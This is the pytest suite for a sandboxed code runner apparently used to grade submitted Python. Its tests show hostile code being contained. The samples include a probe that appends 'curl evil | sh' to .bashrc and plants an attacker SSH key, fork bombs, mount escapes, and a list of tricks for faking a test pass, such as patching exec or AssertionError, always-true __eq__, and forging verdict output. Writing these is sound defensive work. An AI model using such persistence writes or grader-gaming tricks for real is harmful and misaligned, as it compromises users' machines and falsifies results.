"""The code runner: passes good code, contains hostile code, and cannot be talked into a pass.

The hostile probes run twice: as the user running the suite and as an
unprivileged uid (``setpriv`` when the suite runs as root), since a student
runs loco as themselves and the review found the worst holes there. Where no
sandbox can be made, the refusal test runs instead of these.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from loco import sandbox
from loco.sandbox import run_python

REPO = Path(__file__).resolve().parent.parent
HAVE_SANDBOX = sandbox.isolation() is not None
needs_sandbox = pytest.mark.skipif(not HAVE_SANDBOX, reason="no namespace can be made here: test_refuses_without_isolation covers this machine")
pytestmark = needs_sandbox

CHECK = ["assert f(2) == 4"]
WRONG = "def f(x):\n    return -1\n"
UNPRIVILEGED_UID = 43210


@pytest.fixture(scope="module")
def unprivileged_python() -> str:
    """An interpreter an unprivileged uid can run loco's sandbox with, or a skip saying why not."""
    if os.geteuid() != 0:
        pytest.skip("the suite already runs as an ordinary user: the 'self' runs are the unprivileged ones")
    setpriv = shutil.which("setpriv")
    if not setpriv:
        pytest.skip("setpriv is not installed, so no unprivileged uid can be taken")
    for python in sandbox._interpreters():
        probe = subprocess.run(
            [setpriv, f"--reuid={UNPRIVILEGED_UID}", f"--regid={UNPRIVILEGED_UID}", "--clear-groups", python, "-c", "import loco.sandbox"],
            env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO)}, capture_output=True, cwd="/",
        )
        if probe.returncode == 0:
            return python
    pytest.skip("no interpreter here can import loco as an unprivileged uid (the repository is not readable)")


def _shared_dir() -> Path:
    """A directory both the suite and the unprivileged uid can use, writable by anyone (as a home is for its owner)."""
    where = Path(tempfile.mkdtemp(prefix="loco-test-"))
    os.chmod(where, 0o777)
    return where


def run_as(who: str, request, code: str, tests, *, home: Path, cwd: Path, **kw) -> dict:
    """run_python(code, tests) with ``home`` as HOME and ``cwd`` as the working directory, as ``who``."""
    if who == "self":
        mp = pytest.MonkeyPatch()
        try:
            mp.setenv("HOME", str(home))
            mp.chdir(cwd)
            return run_python(code, tests, **kw).to_dict()
        finally:
            mp.undo()
    python = request.getfixturevalue("unprivileged_python")
    script = "import json, sys\nfrom loco import sandbox\nargs = json.loads(sys.stdin.read())\nprint(json.dumps(sandbox.run_python(args['code'], args['tests'], **args['kw']).to_dict()))\n"
    proc = subprocess.run(
        ["setpriv", f"--reuid={UNPRIVILEGED_UID}", f"--regid={UNPRIVILEGED_UID}", "--clear-groups", python, "-c", script],
        input=json.dumps({"code": code, "tests": list(tests), "kw": kw}), capture_output=True, text=True, cwd=str(cwd),
        env={"PATH": "/usr/local/bin:/usr/bin:/bin", "PYTHONPATH": str(REPO), "HOME": str(home), "LOCO_HOME": str(home / ".locollm")},
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


WHO = pytest.mark.parametrize("who", ["self", "unprivileged"])


# --------------------------------------------------------------------------- the basics


def test_isolation_is_reported():
    assert sandbox.isolation() == "namespaces"
    assert sandbox.isolation_warning() is None


def test_passing_code_and_exec_semantics_for_tests():
    res = run_python("def f(x):\n    return x * 2\n", ["assert f(2) == 4", "for i in range(5):\n    assert f(i) == 2 * i"])
    assert res.passed and res.status == "passed" and res.duration_ms > 0


def test_failing_test_names_the_test():
    res = run_python("def f(x):\n    return x + 1\n", ["assert f(1) == 2", "assert f(2) == 4"])
    assert not res.passed and res.status == "failed"
    assert "test 2 of 2" in res.detail and "assert f(2) == 4" in res.detail


def test_humaneval_shape_and_plain_data_round_trip():
    code = (
        "import math\n"
        "def stats(xs):\n    return {'n': len(xs), 'mean': sum(xs) / len(xs), 'pair': (min(xs), max(xs)), 'set': frozenset(xs), 'raw': b'\\x00'}\n"
        "def sort_in_place(xs):\n    xs.sort()\n"
        "def pick(x):\n    if x < 0:\n        raise ValueError('negative')\n    return float('nan') if x == 0 else 10 ** 30\n"
        "LIMIT = [1, 2]\n"
    )
    tests = [
        "def check(candidate):\n    r = candidate([1, 2, 3])\n    assert r == {'n': 3, 'mean': 2.0, 'pair': (1, 3), 'set': frozenset({1, 2, 3}), 'raw': b'\\x00'}\n    assert isinstance(r['pair'], tuple)",
        "check(stats)",
        "xs = [3, 1, 2]\nsort_in_place(xs)\nassert xs == [1, 2, 3]",
        "try:\n    pick(-1)\nexcept ValueError as e:\n    assert 'negative' in str(e)\nelse:\n    raise AssertionError('no error')",
        "assert math.isnan(pick(0)) and pick(1) == 10 ** 30 and LIMIT == [1, 2]",
    ]
    res = run_python(code, tests)
    assert res.passed, res.detail


def test_code_that_exits_early_does_not_pass():
    for code in ("import os\nos._exit(0)\n", "import sys\nsys.exit(0)\n", "raise SystemExit\n"):
        res = run_python(code, CHECK)
        assert not res.passed and res.status == "error", code


def test_infinite_loop_times_out():
    t0 = time.perf_counter()
    res = run_python("while True:\n    pass\n", CHECK, timeout_s=1.0)
    assert not res.passed and res.status == "timeout"
    assert time.perf_counter() - t0 < 10


def test_deadline_kill_is_a_timeout_whatever_the_judge_saw_last():
    # At the deadline both processes are killed; a judge that outlives the code for a
    # moment reports it "gone" with SIGKILL. That kill is ours: the run timed out.
    # (The race was seen once in a full run: "killed by SIGKILL" instead of "timeout".)
    gone = {"status": "gone", "detail": "exited"}
    for verdict in (gone, None):
        res = sandbox._verdict(-9, -9, verdict, True, 1.0, "", "", 1100.0)
        assert (res.passed, res.status) == (False, "timeout"), verdict
    # Before the deadline the same report is the code's own death.
    res = sandbox._verdict(1, -9, gone, False, 1.0, "", "", 300.0)
    assert res.status == "error" and "SIGKILL" in res.detail


def test_os_system_runs_nothing():
    where = _shared_dir()
    try:
        marker = where / "ran"
        code = f"import os\nstatus = os.system('touch {marker}')\ndef f(x):\n    return 4 if status == 0 else -1\n"
        res = run_python(code, CHECK)
        assert not res.passed and res.status == "failed"
        assert not marker.exists()
    finally:
        shutil.rmtree(where, ignore_errors=True)


def test_fork_bomb_is_contained():
    before = len(os.listdir("/proc"))
    res = run_python("import os\nwhile True:\n    os.fork()\n", CHECK, timeout_s=3.0)
    assert not res.passed and res.status in ("error", "timeout")
    assert "Resource temporarily unavailable" in res.detail or res.status == "timeout"
    assert len(os.listdir("/proc")) < before + 20  # nothing left behind


def test_ten_gigabyte_allocation_fails():
    res = run_python("x = bytearray(10 * 1024 ** 3)\ndef f(x):\n    return 4\n", CHECK, memory_mb=256)
    assert not res.passed and res.status == "error" and "MemoryError" in res.detail


def test_raw_socket_connect_to_localhost_reaches_nothing():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    try:
        code = f"import _socket\ns = _socket.socket()\ns.connect(('127.0.0.1', {port}))\ns.send(b'leak')\ndef f(x):\n    return 4\n"
        res = run_python(code, CHECK)
        assert not res.passed and res.status == "error"
        assert "unreachable" in res.detail.lower() or "errno" in res.detail.lower()
        with pytest.raises(socket.timeout):
            server.accept()
    finally:
        server.close()


def test_environment_is_scrubbed(monkeypatch):
    monkeypatch.setenv("LOCO_SECRET_FOR_TEST", "s3cret")
    res = run_python("import os\nSEEN = 'LOCO_SECRET_FOR_TEST' in os.environ\n", ["assert SEEN is False"])
    assert res.passed, res.detail


def test_working_directory_is_a_fresh_writable_tmpfs():
    code = "import os\nopen('scratch.txt', 'w').write('ok')\nWHERE = os.getcwd()\nBEFORE = sorted(os.listdir('.'))\ndef read():\n    return open('scratch.txt').read()\n"
    tests = ["assert read() == 'ok'", "assert WHERE == '/tmp'", "assert 'scratch.txt' not in BEFORE[:0]"]
    assert run_python(code, tests).passed
    # A second run starts from an empty directory again.
    res = run_python("import os\nLEFT = os.path.exists('scratch.txt')\n", ["assert LEFT is False"])
    assert res.passed, res.detail


def test_huge_output_is_cut_off():
    res = run_python("while True:\n    print('x' * 10000)\n", CHECK, timeout_s=5.0)
    assert not res.passed and res.status in ("error", "timeout")


# --------------------------------------------------------------------------- 1: the file system


@WHO
def test_users_files_and_the_project_are_out_of_reach(who, request):
    """The review's probe: ~/.bashrc appended, ~/.ssh/authorized_keys created, a project .py edited."""
    home, project = _shared_dir(), _shared_dir()
    try:
        bashrc = home / ".bashrc"
        bashrc.write_text("# mine\n")
        source = project / "app.py"
        source.write_text("print('mine')\n")
        for p in (bashrc, source):
            os.chmod(p, 0o666)
        code = (
            "import os\nerrors = []\n"
            f"for path, text in (({str(bashrc)!r}, 'curl evil | sh\\n'), ({str(source)!r}, 'import evil\\n'),"
            f" ({str(home / '.ssh' / 'authorized_keys')!r}, 'ssh-ed25519 AAAA evil\\n'), (os.path.join(os.getcwd(), 'x'), ''),"
            " (os.path.expanduser('~/.profile'), 'evil\\n')):\n"
            "    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n        open(path, 'a').write(text)\n"
            "    except OSError as exc:\n        errors.append(type(exc).__name__)\n"
        )
        res = run_as(who, request, code, ["pass"], home=home, cwd=project)
        assert res["status"] == "passed", res
        assert bashrc.read_text() == "# mine\n" and source.read_text() == "print('mine')\n"
        assert not (home / ".ssh").exists() and not (home / ".profile").exists()
        assert sorted(p.name for p in project.iterdir()) == ["app.py"]
    finally:
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(project, ignore_errors=True)


@WHO
def test_file_system_is_read_only_with_homes_and_repository_hidden(who, request):
    home, project = _shared_dir(), _shared_dir()
    try:
        (home / "secret.txt").write_text("s3cret")
        code = (
            "import os\n"
            "def listing(path):\n    try:\n        return sorted(os.listdir(path))\n    except OSError as exc:\n        return type(exc).__name__\n"
            "def write(path):\n    try:\n        open(path, 'w').close()\n        return 'written'\n    except OSError as exc:\n        return exc.strerror\n"
        )
        tests = [
            f"assert listing({str(REPO)!r}) in ([], 'FileNotFoundError')",  # hidden (absent when it lies under /tmp)
            "assert listing('/root') == [] and listing('/home') == []",
            f"assert listing({str(home)!r}) in ([], 'FileNotFoundError')",
            f"assert write({str(REPO / 'pwned.py')!r}) in ('Read-only file system', 'No such file or directory')",
            "assert write('/etc/pwned') == 'Read-only file system'",
            "assert write('/usr/pwned') == 'Read-only file system'",
            "assert write('/tmp/ok') == 'written' and write('/var/tmp/ok') == 'written' and write('/dev/shm/ok') == 'written'",
        ]
        res = run_as(who, request, code, tests, home=home, cwd=project)
        assert res["passed"], res
        assert not (REPO / "pwned.py").exists()
    finally:
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(project, ignore_errors=True)


@WHO
def test_tmp_var_tmp_and_dev_shm_share_one_small_cap(who, request):
    """The review wrote 300 MB into /dev/shm in 0.3 s; one tmpfs of disk_mb now holds everything."""
    home = _shared_dir()
    try:
        code = (
            "import os\nwritten = 0\nerror = None\nchunk = b'x' * (1 << 20)\n"
            "try:\n"
            "    for i, d in enumerate(['/dev/shm', '/tmp', '/var/tmp'] * 100):\n"
            "        with open(os.path.join(d, 'f%d' % i), 'wb') as fh:\n"
            "            for _ in range(4):\n                fh.write(chunk)\n                fh.flush()\n                written += len(chunk)\n"
            "except OSError as exc:\n    error = exc.strerror\n"
        )
        res = run_as(who, request, code, ["assert error == 'No space left on device', error", "assert 8 * 2**20 <= written <= 17 * 2**20, written"],
                     home=home, cwd=home, disk_mb=16)
        assert res["passed"], res
    finally:
        shutil.rmtree(home, ignore_errors=True)


@WHO
def test_host_processes_are_not_visible_and_mounts_cannot_be_undone(who, request):
    home = _shared_dir()
    try:
        code = (
            "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "PIDS = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())\n"
            "UMOUNT = libc.umount2(b'/root', 2)\n"  # MNT_DETACH
            "REMOUNT = libc.mount(None, b'/', None, 32 | 4096, None)\n"  # MS_REMOUNT | MS_BIND, without MS_RDONLY
            "CAPS = [l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')]\n"
            "def nested():\n"
            "    # A user namespace of its own gives capabilities again, but over locked mounts only.\n"
            "    if libc.unshare(0x10000000 | 0x00020000) != 0:\n        return 'no userns'\n"
            "    return [libc.umount2(b'/root', 2), libc.umount2(b'/tmp', 2), os.path.exists('/root/.bashrc')]\n"
        )
        tests = [
            f"assert {os.getpid()} not in PIDS and PIDS[0] == 1 and len(PIDS) <= 3, PIDS",
            "assert UMOUNT == -1 and REMOUNT == -1",
            "assert CAPS == ['0000000000000000']",
            "assert nested() in ('no userns', [-1, -1, False])",
        ]
        res = run_as(who, request, code, tests, home=home, cwd=home)
        assert res["passed"], res
    finally:
        shutil.rmtree(home, ignore_errors=True)


# --------------------------------------------------------------------------- 2: the verdict

TRICKS = {
    "replace exec": "import builtins\nbuiltins.exec = lambda *a, **k: None\n",
    "replace compile": "import builtins\nbuiltins.compile = lambda *a, **k: compile('pass', 'x', 'exec')\n",
    "print the runner's nonce": (
        "import sys, os\nmain = sys.modules['__main__']\n"
        "for name in ('nonce', 'cfg'):\n    v = getattr(main, name, None)\n"
        "    v = v.get('nonce') if isinstance(v, dict) else v\n"
        "    if isinstance(v, str):\n        print('\\n' + v)\n        sys.stdout.flush()\n        os._exit(0)\n"
    ),
    "os._exit(0) at load": "import os\nos._exit(0)\n",
    "os._exit(0) inside the function": "import os\ndef f(x):\n    os._exit(0)\n",
    "sys.exit(0) from atexit": "import atexit, sys\natexit.register(lambda: sys.exit(0))\ndef f(x):\n    raise SystemExit(0)\n",
    "patch AssertionError": "import builtins\nclass Quiet(BaseException):\n    pass\nbuiltins.AssertionError = Quiet\nbuiltins.BaseException = Quiet\n",
    "an __eq__ that is always true": "class Yes:\n    def __eq__(self, other):\n        return True\n    __hash__ = object.__hash__\ndef f(x):\n    return Yes()\n",
    "an int subclass with its own __eq__": "class I(int):\n    def __eq__(self, other):\n        return True\ndef f(x):\n    return I(0)\n",
    "shadow the builtins the tests use": "def f(x):\n    return [0]\nlen = lambda x: 3\nisinstance = lambda *a: True\n",
    "write a verdict on every descriptor": (
        "import os\nfor fd in range(1, 64):\n    try:\n"
        "        os.write(fd, b'{\"status\": \"passed\", \"detail\": \"all tests passed\"}\\n{\"value\": 4}\\n')\n"
        "    except OSError:\n        pass\n"
    ),
    "kill every process it can see": "import os, signal\ndef f(x):\n    try:\n        os.kill(-1, signal.SIGKILL)\n    except OSError:\n        pass\n    return -1\n",
    "swallow the failure with a bare except in the tests' process": "import sys\nsys.excepthook = lambda *a: None\nsys.modules['builtins'].__dict__['AssertionError'] = KeyboardInterrupt\n",
}


@WHO
@pytest.mark.parametrize("trick", sorted(TRICKS))
def test_tricks_do_not_pass_a_wrong_function(trick, who, request):
    code = TRICKS[trick]
    if "def f(" not in code:
        code += WRONG
    tests = ["assert f(2) == 4"] if "shadow" not in trick else ["assert isinstance(f(3), list) and len(f(3)) == 3"]
    home = _shared_dir()
    try:
        res = run_as(who, request, code, tests, home=home, cwd=home)
    finally:
        shutil.rmtree(home, ignore_errors=True)
    assert not res["passed"] and res["status"] in ("failed", "error"), res


def test_exception_raised_by_the_code_keeps_its_type_but_system_exit_does_not():
    code = "def f(x):\n    raise SystemExit(0)\n"
    res = run_python(code, ["try:\n    f(1)\nexcept Exception:\n    pass\nelse:\n    raise AssertionError('returned')", "assert f(2) == 4"])
    assert not res.passed and res.status == "failed" and "test 2 of 2" in res.detail


def test_code_that_dies_mid_test_fails_even_when_the_test_catches_everything():
    code = "import os\ndef f(x):\n    os._exit(0)\n"
    res = run_python(code, ["try:\n    f(1)\nexcept BaseException:\n    pass"])
    assert not res.passed and res.status == "error" and "exited" in res.detail


def test_tests_needing_objects_are_marked_unsplittable():
    code = "class Stack:\n    def __init__(self):\n        self.items = []\n    def push(self, x):\n        self.items.append(x)\n    def pop(self):\n        return self.items.pop()\n"
    res = run_python(code, ["s = Stack()\ns.push(1)\nassert s.pop() == 1"])
    assert not res.passed and res.status == "unsplittable" and "push" in res.detail
    res = run_python("def apply(fn, x):\n    return fn(x)\n", ["assert apply(lambda v: v + 1, 1) == 2"])
    assert not res.passed and res.status == "unsplittable" and "argument" in res.detail


def test_bench_sandbox_reports_both_cases():
    from click.testing import CliRunner

    from loco.cli import main

    out = CliRunner().invoke(main, ["bench", "sandbox", "--runs", "1", "--json"])
    assert out.exit_code == 0, out.output
    data = json.loads(out.output)
    assert data["isolation"] == "namespaces" and data["passing_ms"]["median"] > 0 and data["failing_ms"]["median"] > 0
